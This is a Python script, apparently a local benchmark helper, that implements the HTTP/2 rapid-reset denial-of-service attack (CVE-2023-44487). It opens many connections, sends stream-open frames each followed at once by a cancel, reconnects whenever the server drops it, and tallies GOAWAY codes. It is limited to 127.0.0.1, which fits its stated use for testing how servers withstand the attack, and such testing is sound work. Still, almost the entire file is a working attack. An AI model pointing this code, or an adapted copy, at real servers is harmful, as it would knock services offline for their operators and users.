#!/usr/bin/env python3
"""HTTP/2 rapid-reset attacker (CVE-2023-44487) for bench/h2-servers.sh; stdlib only.

    rapidreset.py PORT SECONDS [CONNECTIONS [BATCH [tls]]]

Opens CONNECTIONS HTTP/2 connections to 127.0.0.1:PORT (h2c with prior knowledge, or h2 over TLS
with ALPN when the fifth argument is "tls"; the certificate is not verified) and, on each, sends
streams that are opened and reset at once: a HEADERS frame (END_STREAM, END_HEADERS) for
GET /plaintext followed by RST_STREAM(CANCEL) on the same stream, BATCH pairs per write. The
header block is encoded once, by hand (HPACK indexed fields and literals without Huffman), which
is all an attacker needs: no HPACK library, no h2 package. The server's frames are read and
skipped, except SETTINGS (acknowledged, as a client must) and GOAWAY (counted, by error code).
A connection the server ends (GOAWAY, EOF, reset) is replaced at once: a real attacker reconnects.
Stops by itself after SECONDS, or at SIGTERM; prints one summary line:

    done seconds=S connections=N streams=M goaways=K codes=CODE:COUNT,... errors=E

Only 127.0.0.1: it is a benchmark helper, not a tool.
"""
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TYPE_HEADERS, TYPE_RST, TYPE_SETTINGS, TYPE_GOAWAY = 0x1, 0x3, 0x4, 0x7
FLAG_ACK, FLAG_END_STREAM, FLAG_END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def literal(name_index, value):
    """Literal field without indexing, indexed name (RFC 7541 6.2.2), raw string (no Huffman)."""
    v = value.encode("ascii")
    assert name_index < 15 and len(v) < 127
    return bytes([name_index, len(v)]) + v


def header_block(port, tls):
    # :method GET (static 2), :scheme http/https (6/7), :path /plaintext (name 4), :authority (name 1)
    return bytes([0x82, 0x87 if tls else 0x86]) + literal(4, "/plaintext") + literal(1, f"127.0.0.1:{port}")


class Conn:
    def __init__(self, port, tls, block):
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            raw = ctx.wrap_socket(raw, server_hostname="localhost")
            if raw.selected_alpn_protocol() != "h2":
                raw.close()
                raise ConnectionError(f"ALPN chose {raw.selected_alpn_protocol()!r}, not h2")
        self.sock = raw
        self.block = block
        self.next_id = 1
        self.pending = 0
        self.inbuf = bytearray()
        self.out = bytearray(PREFACE + frame(TYPE_SETTINGS, 0, 0))
        self.sock.setblocking(False)

    def queue_batch(self, batch):
        """Adds `batch` open-and-reset pairs to the output; False once stream ids are used up."""
        out = self.out
        for _ in range(batch):
            sid = self.next_id
            if sid > MAX_STREAM_ID:
                return False
            self.next_id += 2
            out += frame(TYPE_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, sid, self.block)
            out += frame(TYPE_RST, 0, sid, struct.pack(">I", CANCEL))
        return True

    def flush(self):
        """Writes what the socket takes now; raises OSError when the connection is gone."""
        while self.out:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            del self.out[:n]

    def read(self, goaways):
        """Reads what is there; returns False at EOF or GOAWAY (the connection is done)."""
        while True:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            if not data:
                return False
            self.inbuf += data
        buf = self.inbuf
        alive = True
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            if ftype == TYPE_SETTINGS and not flags & FLAG_ACK:
                self.out += frame(TYPE_SETTINGS, FLAG_ACK, 0)
            elif ftype == TYPE_GOAWAY and length >= 8:
                code = int.from_bytes(payload[4:8], "big")
                goaways[code] = goaways.get(code, 0) + 1
                alive = False
        return alive

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def main():
    port = int(sys.argv[1])
    seconds = float(sys.argv[2])
    n_conns = int(sys.argv[3]) if len(sys.argv) > 3 else 4
    batch = int(sys.argv[4]) if len(sys.argv) > 4 else 100
    tls = len(sys.argv) > 5 and sys.argv[5] == "tls"
    if not (1024 <= port <= 65535 and 0 < seconds <= 3600 and 1 <= n_conns <= 256 and 1 <= batch <= 10000):
        sys.exit("rapidreset.py: PORT 1024-65535, SECONDS 0-3600, CONNECTIONS 1-256, BATCH 1-10000")
    block = header_block(port, tls)
    sel = selectors.DefaultSelector()
    conns = {}
    opened = 0
    streams = 0
    errors = 0
    goaways = {}
    start = time.monotonic()
    deadline = start + seconds

    def stop(_signum, _frame):  # SIGTERM ends the run early, with its summary
        nonlocal deadline
        deadline = 0

    signal.signal(signal.SIGTERM, stop)

    def open_one():
        nonlocal opened, errors
        try:
            c = Conn(port, tls, block)
        except (OSError, ConnectionError):
            errors += 1
            time.sleep(0.01)  # refused: do not spin
            return
        opened += 1
        conns[c.sock.fileno()] = c
        sel.register(c.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, c)

    def drop(c):
        sel.unregister(c.sock)
        conns.pop(c.sock.fileno(), None)
        c.close()

    while time.monotonic() < deadline:
        while len(conns) < n_conns and time.monotonic() < deadline:
            open_one()
        for key, events in sel.select(timeout=0.05):
            c = key.data
            try:
                if events & selectors.EVENT_READ and not c.read(goaways):
                    drop(c)
                    continue
                if events & selectors.EVENT_WRITE:
                    if not c.out:
                        if not c.queue_batch(batch):
                            drop(c)
                            continue
                        c.pending = batch
                    c.flush()
                    if not c.out:  # counted once written whole: a batch cut by a close is not
                        streams += c.pending
                        c.pending = 0
            except OSError:
                errors += 1
                drop(c)
    for c in list(conns.values()):
        drop(c)
    codes = ",".join(f"{k}:{v}" for k, v in sorted(goaways.items())) or "-"
    print(f"done seconds={time.monotonic() - start:.1f} connections={opened} streams={streams} "
          f"goaways={sum(goaways.values())} codes={codes} errors={errors}", flush=True)


if __name__ == "__main__":
    main()
